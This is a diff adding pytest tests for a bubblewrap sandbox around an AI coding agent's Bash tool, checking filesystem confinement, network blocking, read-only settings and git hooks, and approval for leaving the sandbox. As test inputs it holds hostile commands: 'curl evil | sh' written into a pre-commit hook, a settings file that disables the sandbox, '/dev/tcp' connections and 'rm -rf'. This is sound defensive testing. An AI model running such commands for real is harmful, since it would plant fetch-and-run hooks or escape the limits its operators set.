@@ -1,0 +1,324 @@
+"""The bubblewrap sandbox, proven with real commands against real files and sockets."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import socket
+import stat
+import threading
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from codev_ls.tools import sandbox as sandbox_mod
+from codev_ls.tools.bash import BashTool
+from codev_ls.tools.sandbox import build_bwrap_argv, load_sandbox_config, probe_bwrap
+from tests.unit.tools.bash_helpers import make_engine, marker_sleep, needs_bwrap, procs_with
+
+pytestmark = needs_bwrap
+
+
+@pytest.fixture
+def outside_dir() -> Iterator[Path]:
+    """A folder outside the workspace and outside /tmp (which the sandbox replaces)."""
+    path = Path("/var/tmp") / f"codev-sbx-{uuid.uuid4().hex[:10]}"
+    path.mkdir()
+    try:
+        yield path
+    finally:
+        shutil.rmtree(path, ignore_errors=True)
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that records every connection it accepts."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.accepted: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except (TimeoutError, OSError):
+                continue
+            with conn:
+                conn.settimeout(1)
+                try:
+                    self.accepted.append(conn.recv(100))
+                except OSError:
+                    self.accepted.append(b"")
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(2)
+        self.sock.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    lst = Listener()
+    try:
+        yield lst
+    finally:
+        lst.close()
+
+
+def connect_command(port: int) -> str:
+    return f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo hello >&3 && echo connected"
+
+
+# --------------------------------------------------------------------------- filesystem
+
+
+async def test_cannot_write_outside_the_workspace(workspace: Path, outside_dir: Path) -> None:
+    engine, _ = make_engine(workspace)
+    target = outside_dir / "escaped.txt"
+    outcome = await engine.run_tool("Bash", {"command": f"echo x > {target}"})
+    assert outcome.is_error
+    assert "Read-only file system" in outcome.text()
+    assert outcome.meta["sandboxed"] is True
+    assert not target.exists()
+    for cmd in (f"touch {outside_dir}/b", f"mkdir {outside_dir}/c", f"rm -rf {outside_dir}"):
+        outcome = await engine.run_tool("Bash", {"command": cmd})
+        assert outcome.is_error, cmd
+    assert outside_dir.is_dir() and list(outside_dir.iterdir()) == []
+    await engine.aclose()
+
+
+async def test_real_tmp_is_not_reachable(workspace: Path, tmp_path: Path) -> None:
+    """/tmp in the sandbox is private: the host's /tmp (outside the workspace) is untouched."""
+    engine, _ = make_engine(workspace)
+    host_file = tmp_path / f"host-{uuid.uuid4().hex[:6]}.txt"
+    host_file.write_text("secret")
+    outcome = await engine.run_tool(
+        "Bash", {"command": f"cat {host_file}; echo changed > {host_file}; echo done"}
+    )
+    assert "secret" not in outcome.text()
+    assert host_file.read_text() == "secret"
+    await engine.aclose()
+
+
+async def test_can_write_in_workspace_and_private_tmp(workspace: Path) -> None:
+    engine, _ = make_engine(workspace)
+    outcome = await engine.run_tool(
+        "Bash",
+        {"command": "echo w > in-ws.txt && mkdir -p sub && echo t > /tmp/note && cat /tmp/note"},
+    )
+    assert outcome.status == "success" and not outcome.is_error, outcome.text()
+    assert (workspace / "in-ws.txt").read_text() == "w\n"
+    assert not Path("/tmp/note").exists() or Path("/tmp/note").read_text() != "t\n"
+    # The private tmp lasts for the session...
+    outcome = await engine.run_tool("Bash", {"command": "cat /tmp/note; echo $TMPDIR"})
+    assert outcome.text().startswith("t\n/tmp\n")
+    private = engine.services["sandbox"].private_tmp(engine.session)
+    assert (private / "note").read_text() == "t\n"
+    # ...is not shared with another session...
+    other = engine.new_session()
+    outcome = await engine.run_tool("Bash", {"command": "cat /tmp/note"}, session=other)
+    assert outcome.is_error
+    # ...and is removed when the engine closes.
+    await engine.aclose()
+    assert not private.exists()
+
+
+async def test_settings_and_git_hooks_are_read_only(workspace: Path) -> None:
+    (workspace / ".git" / "hooks").mkdir(parents=True)
+    (workspace / ".git" / "config").write_text("[core]\n")
+    engine, _ = make_engine(workspace)
+    evil = json.dumps({"sandbox": {"enabled": False}, "permissions": {"allow": ["Bash"]}})
+    for cmd in (
+        f"echo '{evil}' > .codev/settings.local.json",
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "echo '[alias]' >> .git/config",
+    ):
+        outcome = await engine.run_tool("Bash", {"command": cmd})
+        assert outcome.is_error, cmd
+        assert "Read-only file system" in outcome.text()
+    assert not (workspace / ".codev" / "settings.local.json").exists()
+    assert list((workspace / ".git" / "hooks").iterdir()) == []
+    assert (workspace / ".git" / "config").read_text() == "[core]\n"
+    # Ordinary git work inside .git still happens (objects, refs).
+    outcome = await engine.run_tool("Bash", {"command": "touch .git/index.lock && echo ok"})
+    assert outcome.text().startswith("ok")
+    await engine.aclose()
+
+
+# --------------------------------------------------------------------------- network
+
+
+async def test_network_is_blocked(workspace: Path, listener: Listener) -> None:
+    engine, _ = make_engine(workspace)
+    outcome = await engine.run_tool("Bash", {"command": connect_command(listener.port)})
+    assert outcome.is_error
+    assert "connected" not in outcome.text().split("Exit code")[0].replace(
+        connect_command(listener.port), ""
+    )
+    assert "network is blocked" in outcome.text().lower()
+    listener.close()
+    assert listener.accepted == []
+    await engine.aclose()
+
+
+async def test_network_allowed_by_settings_reaches_the_listener(
+    workspace: Path, listener: Listener
+) -> None:
+    """The control: the same command does connect when the user allows the network."""
+    (workspace / ".codev").mkdir()
+    (workspace / ".codev" / "settings.json").write_text(
+        json.dumps({"sandbox": {"allowNetwork": True}})
+    )
+    engine, _ = make_engine(workspace)
+    outcome = await engine.run_tool("Bash", {"command": connect_command(listener.port)})
+    assert outcome.status == "success" and not outcome.is_error, outcome.text()
+    assert outcome.meta["sandboxed"] is True
+    listener.close()
+    assert listener.accepted == [b"hello\n"]
+    await engine.aclose()
+
+
+# --------------------------------------------------------------------------- leaving the sandbox
+
+
+async def test_disable_sandbox_always_asks(workspace: Path, outside_dir: Path) -> None:
+    target = outside_dir / "written.txt"
+    command = f"echo x > {target}"
+    # Rejected: nothing runs, even in bypassPermissions mode.
+    engine, bridge = make_engine(workspace, answer="reject", mode="bypassPermissions")
+    outcome = await engine.run_tool("Bash", {"command": command, "dangerouslyDisableSandbox": True})
+    assert outcome.status == "rejected"
+    assert len(bridge.requests) == 1
+    request = bridge.requests[0]
+    assert "outside the sandbox" in request.reason + request.detail
+    assert not target.exists()
+    # Allowed once: it runs unconfined and says so.
+    bridge.answers.append("allow_once")
+    outcome = await engine.run_tool("Bash", {"command": command, "dangerouslyDisableSandbox": True})
+    assert outcome.status == "success" and not outcome.is_error, outcome.text()
+    assert outcome.meta["sandboxed"] is False
+    assert "outside the sandbox" in outcome.text()
+    assert target.read_text() == "x\n"
+    # The next use asks again.
+    outcome = await engine.run_tool("Bash", {"command": command, "dangerouslyDisableSandbox": True})
+    assert outcome.status == "rejected" and len(bridge.requests) == 3
+    await engine.aclose()
+
+
+async def test_unavailable_bwrap_asks_for_every_command(
+    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    fake = tmp_path / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
+    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
+    monkeypatch.setenv("CODEV_BWRAP", str(fake))
+    status = probe_bwrap(str(fake))
+    assert not status.available and "No permissions to create new namespace" in status.reason
+    assert "UNAVAILABLE" in BashTool().prompt()
+    assert "No permissions to create new namespace" in BashTool().prompt()
+
+    engine, bridge = make_engine(workspace, answers=["allow_once", "reject"])
+    outcome = await engine.run_tool("Bash", {"command": "echo hi > made.txt; echo ran"})
+    assert outcome.status == "success"
+    assert outcome.meta["sandboxed"] is False
+    assert "Ran without a sandbox" in outcome.text()
+    assert "no sandbox: bwrap cannot run here" in bridge.requests[0].detail
+    outcome = await engine.run_tool("Bash", {"command": "echo again"})
+    assert outcome.status == "rejected" and len(bridge.requests) == 2
+    await engine.aclose()
+    # bypassPermissions means the user accepted unconfined commands: no question.
+    engine, bridge = make_engine(workspace, answer="reject", mode="bypassPermissions")
+    outcome = await engine.run_tool("Bash", {"command": "echo bypass"})
+    assert outcome.status == "success" and bridge.requests == []
+    await engine.aclose()
+
+
+async def test_sandbox_turned_off_runs_unconfined(
+    workspace: Path, outside_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CODEV_SANDBOX", "0")
+    engine, _bridge = make_engine(workspace)
+    outcome = await engine.run_tool("Bash", {"command": f"echo x > {outside_dir}/f"})
+    assert outcome.status == "success" and not outcome.is_error
+    assert outcome.meta["sandboxed"] is False
+    assert (outside_dir / "f").exists()
+    assert "off (CODEV_SANDBOX=0)" in BashTool().prompt()
+    await engine.aclose()
+
+
+async def test_processes_never_outlive_a_sandboxed_command(workspace: Path) -> None:
+    engine, _ = make_engine(workspace)
+    m = marker_sleep()
+    # setsid escapes a process group, not the sandbox's PID namespace.
+    outcome = await engine.run_tool(
+        "Bash", {"command": f"setsid {m} > /dev/null 2>&1 & echo started"}
+    )
+    assert outcome.text().startswith("started")
+    assert not procs_with(m)
+    await engine.aclose()
+
+
+# --------------------------------------------------------------------------- configuration
+
+
+def test_settings_merge_and_environment(
+    workspace: Path, monkeypatch: pytest.MonkeyPatch, _isolated_config: Path
+) -> None:
+    (_isolated_config / "settings.json").write_text(
+        json.dumps({"sandbox": {"allowNetwork": True, "writePaths": ["~/.cache/x"]}})
+    )
+    (workspace / ".codev").mkdir()
+    (workspace / ".codev" / "settings.local.json").write_text(
+        json.dumps({"sandbox": {"allowNetwork": False}})
+    )
+    (workspace / ".codev" / "settings.json").write_text("{not json")
+    config = load_sandbox_config(workspace)
+    assert config.enabled and not config.allow_network
+    assert config.write_paths == (Path("~/.cache/x").expanduser(),)
+    monkeypatch.setenv("CODEV_SANDBOX_NETWORK", "1")
+    assert load_sandbox_config(workspace).allow_network
+    (workspace / ".codev" / "settings.json").write_text(json.dumps({"sandbox": {"enabled": False}}))
+    config = load_sandbox_config(workspace)
+    assert not config.enabled and "project settings" in config.disabled_by
+
+
+def test_bwrap_command_line(workspace: Path, tmp_path: Path) -> None:
+    private = tmp_path / "private"
+    argv = build_bwrap_argv(
+        "/usr/bin/bwrap",
+        ["bash", "-c", "true"],
+        workspace=workspace,
+        private_tmp=private,
+        cwd=workspace,
+    )
+    # The private tmp is mounted before the workspace (a workspace under /tmp stays visible).
+    assert argv.index(str(private)) < argv.index("--bind", argv.index(str(private)) + 1)
+    assert "--unshare-net" in argv and "--unshare-pid" in argv and "--die-with-parent" in argv
+    assert argv[-3:] == ["bash", "-c", "true"]
+    assert (workspace / ".codev").is_dir()  # created so it can be mounted read-only
+    with_net = build_bwrap_argv(
+        "bwrap", ["true"], workspace=workspace, private_tmp=private, cwd=workspace,
+        allow_network=True,
+    )  # fmt: skip
+    assert "--unshare-net" not in with_net
+
+
+def test_probe_is_cached(tmp_path: Path) -> None:
+    fake = tmp_path / "bwrap"
+    counter = tmp_path / "count"
+    fake.write_text(f"#!/bin/sh\necho x >> {counter}\nexit 1\n")
+    fake.chmod(0o755)
+    sandbox_mod._PROBE_CACHE.pop(str(fake), None)
+    for _ in range(3):
+        assert not probe_bwrap(str(fake)).available
+    assert counter.read_text() == "x\n"
+    assert not probe_bwrap(str(tmp_path / "missing")).available
